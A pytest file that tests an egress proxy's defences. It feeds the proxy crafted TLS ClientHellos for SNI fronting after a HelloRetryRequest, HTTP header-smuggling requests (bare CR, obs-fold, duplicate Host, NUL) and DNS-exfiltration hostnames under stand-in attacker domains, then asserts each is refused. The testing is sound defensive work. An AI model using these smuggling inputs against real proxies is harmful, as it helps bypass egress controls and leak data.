"""Review of issue 30's egress fixes (``worker.egress``): what a run's client can still send past the checks of the
Host header and of a tunnel's TLS server name.

The proxy is served in-process on a loopback listener (the same ``EgressProxy`` a sandbox's listener is given), the
allowed host ``ALLOWED`` pinned to ``tests.egress_tls.Origin``, which records every server name its TLS stack was
asked for (its SNI callback) and every request head that reached it. The three holes the review found (a second
ClientHello after a HelloRetryRequest, a bare CR in a header, a secret host in the worker's log) were strict xfails
with what reached the origin; they are plain tests now, as are the contained attacks.
"""

from __future__ import annotations

import asyncio
import logging
import os
import socket
import ssl
import threading

import pytest

from tests.egress_hosts import ALLOWED
from tests.egress_tls import Origin, certificate, python_hello
from worker.egress import proxy as proxy_module
from worker.egress.policy import AllowList
from worker.egress.proxy import EgressProxy

FRONTED = "paste.attacker.example"


@pytest.fixture
def origin(tmp_path):
    server = Origin(*certificate(tmp_path, ALLOWED))
    yield server
    server.close()


@pytest.fixture
def proxy(origin):
    """The proxy's port, serving an allow-list of ``ALLOWED`` (and ``*.allowed-egress.net``) on a thread's loop."""
    loop = asyncio.new_event_loop()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    allowed = AllowList(frozenset({(ALLOWED, origin.port)}), frozenset(),
                        suffixes=frozenset({(".allowed-egress.net", origin.port)}))
    made: dict = {}

    def serve() -> None:
        asyncio.set_event_loop(loop)
        made["proxy"] = EgressProxy(allowed, pinned={ALLOWED: "127.0.0.1", f"x.{ALLOWED}": "127.0.0.1"})
        made["proxy"].serve(listener)
        loop.run_forever()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    while "proxy" not in made:
        threading.Event().wait(0.01)
    yield listener.getsockname()[1], made["proxy"]
    asyncio.run_coroutine_threadsafe(made["proxy"].close(), loop).result(10)
    loop.call_soon_threadsafe(loop.stop)
    thread.join(10)
    loop.close()


def _connect(port: int) -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", port))
    connection.settimeout(2)
    return connection


def _read_all(connection: socket.socket) -> bytes:
    data = b""
    try:
        while chunk := connection.recv(65536):
            data += chunk
    except (TimeoutError, OSError):
        pass
    return data


def _records(data: bytes) -> list[tuple[int, bytes]]:
    found, at = [], 0
    while at + 5 <= len(data):
        length = int.from_bytes(data[at + 3:at + 5], "big")
        found.append((data[at], data[at + 5:at + 5 + length]))
        at += 5 + length
    return found


def _vector(size: int, content: bytes) -> bytes:
    return len(content).to_bytes(size, "big") + content


def _extension(kind: int, body: bytes) -> bytes:
    return kind.to_bytes(2, "big") + _vector(2, body)


def tls13_hello(server_name: str, key_share: bytes | None) -> bytes:
    """A TLS 1.3 ClientHello for ``server_name`` offering x25519 (and P-256), with ``key_share`` as its x25519
    share — or no share at all (``None``), which makes a server answer with a HelloRetryRequest."""
    shares = b"" if key_share is None else b"\x00\x1d" + _vector(2, key_share)
    extensions = [_extension(0, _vector(2, b"\x00" + _vector(2, server_name.encode()))),
                  _extension(10, _vector(2, b"\x00\x1d\x00\x17")),           # supported_groups
                  _extension(13, _vector(2, b"\x04\x03\x08\x04")),           # signature_algorithms
                  _extension(43, _vector(1, b"\x03\x04")),                   # supported_versions: TLS 1.3
                  _extension(51, _vector(2, shares))]                        # key_share
    body = (b"\x03\x03" + os.urandom(32) + _vector(1, os.urandom(32)) + _vector(2, b"\x13\x01") + _vector(1, b"\x00")
            + _vector(2, b"".join(extensions)))
    return b"\x16\x03\x01" + _vector(2, b"\x01" + len(body).to_bytes(3, "big") + body)


HELLO_RETRY_RANDOM = bytes.fromhex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c")


def _tunnel(port: int, host: str, origin_port: int) -> socket.socket:
    connection = _connect(port)
    connection.sendall(f"CONNECT {host}:{origin_port} HTTP/1.1\r\nHost: {host}:{origin_port}\r\n\r\n".encode())
    assert connection.recv(200).startswith(b"HTTP/1.1 200")
    return connection


CHANGE_CIPHER_SPEC = b"\x14\x03\x03\x00\x01\x01"
"""The ChangeCipherSpec record a TLS 1.3 client may send before its second ClientHello."""


def _hello_retry(port: int, origin_port: int) -> socket.socket:
    """A tunnel to ``ALLOWED`` whose first ClientHello (no key share) got a HelloRetryRequest back."""
    connection = _tunnel(port, ALLOWED, origin_port)
    connection.sendall(tls13_hello(ALLOWED, None))
    header = connection.recv(5)
    answer = b""
    while len(answer) < int.from_bytes(header[3:5], "big"):
        answer += connection.recv(65536)
    assert answer[0] == 2 and answer[6:38] == HELLO_RETRY_RANDOM  # a HelloRetryRequest: the attack is set
    return connection


# ---- holes found, now closed ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("second", [
    CHANGE_CIPHER_SPEC + tls13_hello(FRONTED, os.urandom(32)),
    tls13_hello(FRONTED, os.urandom(32)),                                    # no ChangeCipherSpec first
    CHANGE_CIPHER_SPEC + CHANGE_CIPHER_SPEC + tls13_hello(FRONTED, os.urandom(32)),
    CHANGE_CIPHER_SPEC + b"\x17\x03\x03\x00\x10" + bytes(16),                # application data, no hello
], ids=["after-change-cipher-spec", "alone", "after-two-change-cipher-specs", "no-hello"])
def test_a_second_client_hello_after_a_hello_retry_request_names_the_tunnels_host(proxy, origin, second):
    port, refused = proxy
    connection = _hello_retry(port, origin.port)
    connection.sendall(second)
    _read_all(connection)
    connection.close()
    assert FRONTED not in origin.server_names and origin.server_names == [ALLOWED], origin.server_names
    assert refused.refusals.count == 1 and FRONTED not in str(refused.refusals.listed), refused.refusals.listed


def test_a_header_holding_a_bare_carriage_return_is_refused(proxy, origin):
    port, _ = proxy
    connection = _connect(port)
    connection.sendall(f"GET http://{ALLOWED}:{origin.port}/x HTTP/1.1\r\nHost: {ALLOWED}:{origin.port}\r\n"
                       f"X-A: a\rHost: {FRONTED}\r\nConnection: close\r\n\r\n".encode())
    answer = _read_all(connection)
    connection.close()
    assert not any(b"\r" + b"Host: " + FRONTED.encode() in head for head in origin.heads), origin.heads
    assert answer.startswith(b"HTTP/1.1 400"), answer[:80]


# ---- contained -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("server_name", "passes"), [
    (ALLOWED, True),
    (ALLOWED.upper(), True),
    (ALLOWED + ".", True),
    (FRONTED, False),
    ("127.0.0.1", False),                       # an address in SNI for a tunnel to a name
    ("xn--" + ALLOWED, False),                  # a punycode spelling of another name
    (f"x.{ALLOWED}", False),                    # a name under it (a wildcard of the allow-list) is another host
])
def test_a_tunnels_first_hello_must_name_its_host_however_spelled(proxy, origin, server_name, passes):
    port, _ = proxy
    connection = _tunnel(port, ALLOWED, origin.port)
    connection.sendall(tls13_hello(server_name, os.urandom(32)))
    answer = _read_all(connection)
    connection.close()
    assert bool(_records(answer)) is passes, (server_name, answer[:40])
    assert (server_name in origin.server_names or server_name.lower().rstrip(".") in origin.server_names) is passes


def test_a_real_tls_client_through_the_tunnel_still_works(proxy, origin):
    port, _ = proxy
    connection = _tunnel(port, ALLOWED, origin.port)
    connection.sendall(python_hello(ALLOWED))
    assert _records(connection.recv(65536))[0][0] == 22  # the server's hello came back


def test_a_real_tls_client_whose_server_asks_for_another_key_share_gets_through(proxy, origin):
    origin.context.set_ecdh_curve("secp384r1")  # the client's share is x25519: a HelloRetryRequest asks for P-384
    port, refused = proxy
    context = ssl.create_default_context(cafile=origin.cert)
    with context.wrap_socket(_tunnel(port, ALLOWED, origin.port), server_hostname=ALLOWED) as tls:
        tls.sendall(f"GET /retried HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n".encode())
        assert _read_all(tls).endswith(b"reached /retried over TLS")
    assert origin.server_names == [ALLOWED, ALLOWED] and refused.refusals.count == 0  # two hellos, both checked


def test_a_second_client_hello_naming_the_tunnels_host_goes_on(proxy, origin):
    port, refused = proxy
    connection = _hello_retry(port, origin.port)
    connection.sendall(CHANGE_CIPHER_SPEC + tls13_hello(ALLOWED.upper(), os.urandom(32)))
    answer = _read_all(connection)
    connection.close()
    assert origin.server_names == [ALLOWED, ALLOWED.upper()] and refused.refusals.count == 0
    assert answer and answer[0] in (20, 21, 22)  # the server's own answer to it came back, whatever it was


def test_a_tab_in_a_header_value_is_still_forwarded(proxy, origin):
    port, _ = proxy
    connection = _connect(port)
    connection.sendall(f"GET http://{ALLOWED}:{origin.port}/tab HTTP/1.1\r\nHost: {ALLOWED}:{origin.port}\r\n"
                       "X-A: a\tb\r\nConnection: close\r\n\r\n".encode())
    assert _read_all(connection).endswith(b"reached /tab")
    connection.close()
    assert b"X-A: a\tb\r\n" in origin.heads[0]


@pytest.mark.parametrize(("head", "status"), [
    ("GET http://{a}/x HTTP/1.1\r\nHost: user@{a}\r\n\r\n", b"400"),                     # userinfo in Host
    ("GET http://user:pw@{a}/x HTTP/1.1\r\nHost: {a}\r\n\r\n", b"400"),                  # userinfo in the URI
    ("GET http://{a}/x HTTP/1.1\r\nHost: {f}\r\n\r\n", b"403"),                          # fronting
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\r\nHost: {f}\r\n\r\n", b"400"),             # two Hosts
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n", b"400"),
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\r\nX-A: a\r\n Host: {f}\r\n\r\n", b"400"),  # obs-fold
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\r\nHost : {f}\r\n\r\n", b"400"),            # a space before ':'
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\nHost: {f}\r\n\r\n", b"400"),               # a bare LF
    ("POST http://{a}/x?token=t HTTP/1.1\r\nHost: {a}\r\nContent-Length: 0\r\n\r\n", b"405"),
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\r\nX-A: a\rHost: {f}\r\n\r\n", b"400"),      # a bare CR
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\r\nX-A: a\r\r\n\r\n", b"400"),              # a CR before CRLF
    ("GET http://{a}/x\rHost: {f} HTTP/1.1\r\nHost: {a}\r\n\r\n", b"400"),             # a CR in the line
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\r\nX-A: a\x00Host: {f}\r\n\r\n", b"400"),   # NUL
    ("GET http://{a}/x HTTP/1.1\r\nHost: {a}\r\nX-A: a\x0bb\x7f\r\n\r\n", b"400"),      # VT, DEL
])
def test_plain_requests_the_proxy_must_not_forward_are_refused_and_nothing_reaches_the_origin(proxy, origin, head,
                                                                                             status):
    port, _ = proxy
    address = f"{ALLOWED}:{origin.port}"
    connection = _connect(port)
    connection.sendall(head.format(a=address, f=FRONTED).encode())
    answer = _read_all(connection)
    connection.close()
    assert answer.split(b" ")[1] == status, answer[:120]
    assert origin.heads == [] and not origin.reached()


def test_http_1_0_without_host_gets_the_uris_host_and_a_later_fronted_request_is_refused(proxy, origin):
    port, refused = proxy
    address = f"{ALLOWED}:{origin.port}"
    connection = _connect(port)
    connection.sendall(f"GET http://{address}/one HTTP/1.0\r\n\r\n".encode())
    connection.sendall(f"GET http://{address}/two HTTP/1.1\r\nHost: {FRONTED}\r\n\r\n".encode())
    connection.sendall(f"GET /three HTTP/1.1\r\nHost: {FRONTED}\r\n\r\n".encode())
    answer = _read_all(connection)
    connection.close()
    assert b"reached /one" in answer and b"reached /two" not in answer and b"reached /three" not in answer
    assert len(origin.heads) == 1 and f"Host: {address}".encode() in origin.heads[0]
    assert refused.refusals.count == 1 and FRONTED not in str(refused.refusals.listed), refused.refusals.listed


def test_a_refusal_naming_a_secret_host_does_not_put_the_secret_in_the_workers_log(proxy, caplog):
    token = "ghp_Att4ckT0kenValue9f3c2e"
    port, refused = proxy
    with caplog.at_level(logging.INFO, logger="worker.egress.proxy"):
        connection = _connect(port)
        host = f"{token}.example.org:443"
        connection.sendall(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        assert _read_all(connection).startswith(b"HTTP/1.1 403")
        connection.close()
    assert refused.refusals.count == 1
    assert token not in caplog.text, caplog.text
    assert "refused (403 Forbidden): not on the allow-list" in caplog.text, caplog.text  # still says what happened


@pytest.mark.parametrize("head", [
    "CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n",
    "GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n",
], ids=["tunnel", "plain"])
def test_a_name_the_allow_list_does_not_cover_is_never_looked_up(proxy, monkeypatch, head):
    """A run cannot send data out through lookups of names it makes up (a resolver forwards a name's labels to
    the name's servers): the proxy refuses a destination before it resolves anything."""
    looked_up: list[str] = []
    monkeypatch.setattr(proxy_module, "resolve", lambda host, port: looked_up.append(host) or [])
    port, served = proxy
    name = "c2VjcmV0IGRhdGE.exfil.attacker.example"
    connection = _connect(port)
    connection.sendall(head.format(name=name).encode())
    assert _read_all(connection).startswith(b"HTTP/1.1 403")
    connection.close()
    assert looked_up == [] and served.refusals.count == 1


def test_a_name_under_an_allowed_wildcard_is_looked_up_as_the_security_model_says(proxy, origin, monkeypatch):
    """What remains: a name a wildcard entry covers is resolved whatever its first labels hold (the operator's
    domain's servers see them), which the security model says of wildcards."""
    looked_up: list[str] = []
    monkeypatch.setattr(proxy_module, "resolve", lambda host, port: looked_up.append(host) or ["127.0.0.1"])
    port, _ = proxy
    name = "c2VjcmV0IGRhdGE.allowed-egress.net"
    connection = _connect(port)
    connection.sendall(f"CONNECT {name}:{origin.port} HTTP/1.1\r\nHost: {name}:{origin.port}\r\n\r\n".encode())
    _read_all(connection)
    connection.close()
    assert looked_up == [name.lower()]  # names are looked up lower-cased: case carries nothing out
